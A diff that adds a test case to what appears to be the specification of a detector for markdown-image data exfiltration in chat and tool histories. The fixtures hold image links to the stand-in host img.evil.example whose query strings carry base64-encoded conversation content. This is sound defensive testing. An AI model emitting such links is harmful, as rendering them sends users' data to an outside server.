@@ -106,6 +106,16 @@
 -- ]
 -- expect = []
 -- [[case]]
+-- name = "a later result holds what another one had returned"
+-- history_messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m3", position = 3, role = "tool", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ) see [x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:03:00Z, record_id = 3 },
+-- ]
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m3", position = 3, role = "tool", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ) see [x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:03:00Z, record_id = 3 },
+-- ]
+-- expect = []
+-- [[case]]
 -- name = "thinking is not displayed"
 -- messages = [
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
